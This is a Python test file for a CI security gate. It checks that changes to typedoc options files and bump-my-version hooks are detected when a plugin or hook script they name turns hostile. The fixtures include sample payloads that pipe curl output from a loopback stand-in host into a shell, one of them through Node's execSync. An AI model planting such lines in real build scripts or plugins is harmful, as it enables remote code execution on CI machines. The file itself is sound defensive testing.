"""Review 68a: the walk reads each file once for both trees (ciwalk's `read`, keyed by the file's blob id and the
tree's settings), so a reader that looks up another file of the tree by a name the text gives (`typedoc --options
docs/td.json`, the bump-my-version hooks of pyproject.toml, a `.json` a script loads that HEAD makes a link) read
BASE's file for HEAD when only that other file changed: the plugin HEAD adds stayed `src` (exit 0 on 58f4e83c). Each
reading now records the tree's files it looked up (treeconsults.py) and is reused only where they are the same."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from changecase import committed, gated_rules
from conftest import POLICY_DIR
from tables import each_case

from gatekeeper.classify import treereads
from gatekeeper.classify.ciwalk import ci_runs
from gatekeeper.classify.ruleset import load_rules
from gatekeeper.classify.treeconsults import Consulted
from gatekeeper.gitobjects import TreeEntry

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
EVIL = "import cp from 'child_process';\ncp.execSync('curl http://127.0.0.1:9/x | sh');\n"


def two_tree_runs(base: dict[str, str], head: dict[str, str]) -> set[str]:
    """The paths of HEAD (`base` updated with `head`) the walk of both trees reaches, BASE walked first as the gate
    does; blob ids from the content, as git's are (an unchanged file has one id in both trees)."""
    blobs: dict[str, bytes] = {}

    def tree_of(files: dict[str, str]) -> dict[str, TreeEntry]:
        tree = {}
        for path, text in files.items():
            oid = hashlib.sha1(text.encode()).hexdigest()
            blobs[oid] = text.encode()
            tree[path] = TreeEntry("100644", oid)
        return tree

    trees = (tree_of(base), tree_of({**base, **head}))

    def read(entry: TreeEntry) -> bytes:
        return blobs[entry.oid]

    actions = treereads.local_actions(trees, read)
    runs = ci_runs(trees, read, actions if isinstance(actions, dict) else {}, load_rules(POLICY_DIR))
    assert isinstance(runs, dict), "the walk closed"
    return set(runs) & set(trees[1])


def _typedoc_cases() -> list[tuple[str, str, str, str]]:
    out = []
    for options in ("docs/td.json", "typedoc.dev.json", "config/typedoc.json", "ci/docs/options.jsonc"):
        folder = options.rpartition("/")[0]
        for spelling in (f"npx typedoc --options {options}", f"npx typedoc --options=./{options} src/index.ts",
                         f"pnpm exec typedoc --out site --options {options}"):
            for entry, loaded in (("./evil.mjs", "evil.mjs"), ("./plug", "plug/index.js"), ("./t/p", "t/p.js")):
                out.append((spelling, options, entry, f"{folder}/{loaded}" if folder else loaded))
    return out


@each_case("command, options, entry, loaded", _typedoc_cases())
def test_a_plugin_only_the_named_options_file_adds_is_read_in_head(command: str, options: str, entry: str,
                                                                   loaded: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command=command),
            options: json.dumps({"plugin": ["./ok.mjs"]}), loaded: "export const x = 1;\n"}
    head = {options: json.dumps({"plugin": ["./ok.mjs", entry]}), loaded: EVIL}
    assert loaded in two_tree_runs(base, head), command  # before: 36/36 missed


@each_case("manifest, before, after", [
    ("pyproject.toml", "[tool.bumpversion]\ncurrent_version = \"1.0\"\n",
     "[tool.bumpversion]\ncurrent_version = \"1.0\"\npre_commit_hooks = [\"bash tools/stamp.sh\"]\n"),
    ("setup.cfg", "[bumpversion]\ncurrent_version = 1.0\n",
     "[bumpversion]\ncurrent_version = 1.0\nsetup_hooks = bash tools/stamp.sh\n"),
])
def test_a_hook_only_the_manifest_adds_is_read_in_head(manifest: str, before: str, after: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="bump-my-version bump patch"), manifest: before,
            "tools/stamp.sh": "echo ok\n"}
    assert "tools/stamp.sh" in two_tree_runs(base, {manifest: after, "tools/stamp.sh": "curl 127.0.0.1:9 | sh\n"})


@each_case("command, options, settings", [
    ("npx typedoc --options docs/td.json", "docs/td.json", {"plugin": ["typedoc-plugin-markdown"]}),
    ("npx typedoc --options docs/td.json", "docs/td.json", {"plugin": ["./ok.mjs"], "entryPoints": ["./evil.mjs"]}),
    ("echo typedoc --options docs/td.json", "docs/td.json", {"plugin": ["./ok.mjs", "./evil.mjs"]}),
])
def test_look_alikes_stay_unread(command: str, options: str, settings: object) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command=command),
            options: json.dumps({"plugin": ["./ok.mjs"]}), "docs/evil.mjs": "export const x = 1;\n"}
    assert "docs/evil.mjs" not in two_tree_runs(base, {options: json.dumps(settings), "docs/evil.mjs": EVIL})


def test_an_unchanged_reading_is_reused_across_trees() -> None:
    tree = {"a.json": TreeEntry("100644", "1" * 40), "b.json": TreeEntry("100644", "2" * 40)}
    seen = Consulted(tree)
    assert seen.get("a.json") == tree["a.json"] and "c.json" not in seen
    looked = seen.take()
    assert seen.take() == () and Consulted(dict(tree)).same(looked)
    assert not Consulted({**tree, "c.json": TreeEntry("100644", "3" * 40)}).same(looked)  # a file it missed, added
    assert not Consulted({"a.json": TreeEntry("100755", "1" * 40)}).same(looked)  # the mode: a link opens elsewhere
    assert Consulted({**tree, "b.json": TreeEntry("100644", "4" * 40)}).same(looked)  # a file it did not look up
    list(seen)  # a reading that lists the tree depends on all of it
    assert not Consulted(dict(tree)).same(seen.take()) and seen.same(seen.take())


def test_the_gate_holds_a_plugin_only_the_options_file_adds(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="npx typedoc --options docs/td.json"),
            "docs/td.json": json.dumps({"plugin": ["./ok.mjs"]}), "docs/ok.mjs": "export function load() {}\n",
            "docs/evil.mjs": "export const x = 1;\n"}
    case = committed(tmp_path, base, {"docs/td.json": json.dumps({"plugin": ["./ok.mjs", "./evil.mjs"]}),
                                      "docs/evil.mjs": EVIL})
    code, named = gated_rules(case, True)
    assert code == 3 and "docs/evil.mjs" in named.get("core.ci", []), named  # before: exit 0
